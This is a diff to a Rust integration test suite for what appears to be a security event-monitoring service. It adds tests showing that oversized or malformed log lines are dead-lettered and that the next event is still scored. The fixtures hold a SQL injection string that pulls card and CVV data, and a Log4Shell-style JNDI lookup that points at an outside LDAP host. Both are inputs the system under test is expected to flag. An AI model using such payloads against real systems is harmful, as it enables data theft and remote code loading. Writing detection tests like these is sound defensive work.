@@ -8,6 +8,7 @@
     reason = "a test reports by panicking"
 )]
 
+use async_nats::jetstream::context::PublishErrorKind;
 use magsentinel_bus_schema::{
     DeadLetter, Event, Failure, Fields, Id, Kind, Level, SCHEMA_VERSION, Scored, Shard, Source,
     Stream, Subject, Tenant, Timestamp, Token, encode, subject,
@@ -15,6 +16,7 @@ use magsentinel_bus_schema::{
 use magsentinel_runtime::bus::Bus;
 use magsentinel_tests::{Mesh, held, wait_for};
 use serde_json::{Value, json};
+use std::io::Write;
 
 const INJECTION: &str =
     "SELECT * FROM users WHERE name = '' UNION SELECT card, cvv FROM payments --'";
@@ -41,7 +43,7 @@ async fn bad_ingest_is_dead_lettered_with_its_reason_and_the_next_good_event_is_
         ("sql", b"".to_vec(), "empty"),
         ("sql", br#"{"text": "SELECT"#.to_vec(), "JSON"),
         ("sql", br#"{"text": 7}"#.to_vec(), "text"),
-        ("sql", b"\xff\xfe\xfd".to_vec(), ""),
+        ("sql", b"\xff\xfe\xfd".to_vec(), "2 bytes follow"),
         ("sql", br#"{"text": "select 1"} trailing"#.to_vec(), "JSON"),
         ("sql", b"[1, 2]".to_vec(), "object"),
         ("sql", br#"{"user": "ann"}"#.to_vec(), "text"),
@@ -154,10 +156,59 @@ async fn what_is_too_large_for_the_server_is_refused_to_its_publisher() {
         Ok(ack) => ack.await.map(drop),
         Err(e) => Err(e),
     };
-    assert!(refused.is_err(), "64 MiB was taken");
+    let told = refused.unwrap_err();
+    assert_eq!(told.kind(), PublishErrorKind::MaxPayloadExceeded, "{told:?}");
     mesh.ingest("sql", json!({"text": INJECTION}).to_string()).await;
     wait_for("the good event to be scored", async || {
         Some(flagged(&bus).await).filter(|f| f.len() == 1)
+    })
+    .await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_huge_line_of_a_log_is_a_dead_letter_and_the_next_line_is_scored() {
+    let mut mesh = Mesh::new();
+    let log = mesh.dir().join("access.log");
+    std::fs::write(&log, "").unwrap();
+    mesh.start("sensor", &["--tail", &format!("access={}", log.display())]);
+    mesh.start("api-watch", &[]);
+    mesh.ready().await;
+    let bus = mesh.bus().await;
+    wait_for("the log to be followed", async || {
+        let services = magsentinel_runtime::micro::ask_all(&bus, "STATS", Some("sensor")).await;
+        let services = services.ok()?;
+        let tail = services.first()?.pointer("/endpoints/0/data/parts/tail")?.to_string();
+        tail.contains("access.log").then_some(())
+    })
+    .await;
+    let line = |path: &str| {
+        json!({
+            "time_iso8601": "2026-11-21T11:00:00+00:00", "remote_addr": "203.0.113.9",
+            "request": format!("GET {path} HTTP/1.1"), "status": "200",
+        })
+        .to_string()
+    };
+    let huge = line(&format!("/{}", "x".repeat(64 * 1024 * 1024)));
+    let good = line("/search?q=%24%7Bjndi:ldap://198.51.100.1/a%7D");
+    let mut file = std::fs::OpenOptions::new().append(true).open(&log).unwrap();
+    file.write_all(format!("{huge}\n{good}\n").as_bytes()).unwrap();
+    let letters = wait_for("the dead letter", async || {
+        Some(letters(&bus).await).filter(|letters| !letters.is_empty())
+    })
+    .await;
+    let [letter] = letters.as_slice() else { panic!("{letters:#?}") };
+    // With its end.
+    let len = huge.len() as u64 + 1;
+    assert_eq!(letter.payload_len, len, "{}", letter.reason);
+    assert_eq!(letter.reason, format!("line of {len} bytes is over line_bytes_max"));
+    let patrol: Token = "api-watch".parse().unwrap();
+    wait_for("the next line to be scored", async || {
+        let mut all = Vec::new();
+        for level in [Level::High, Level::Critical] {
+            let filter = Subject::Scored(patrol.clone(), level).of(bus.tenant());
+            all.extend(held::<Scored>(&bus, Stream::Scored, filter).await);
+        }
+        (all.len() == 1).then_some(())
     })
     .await;
 }
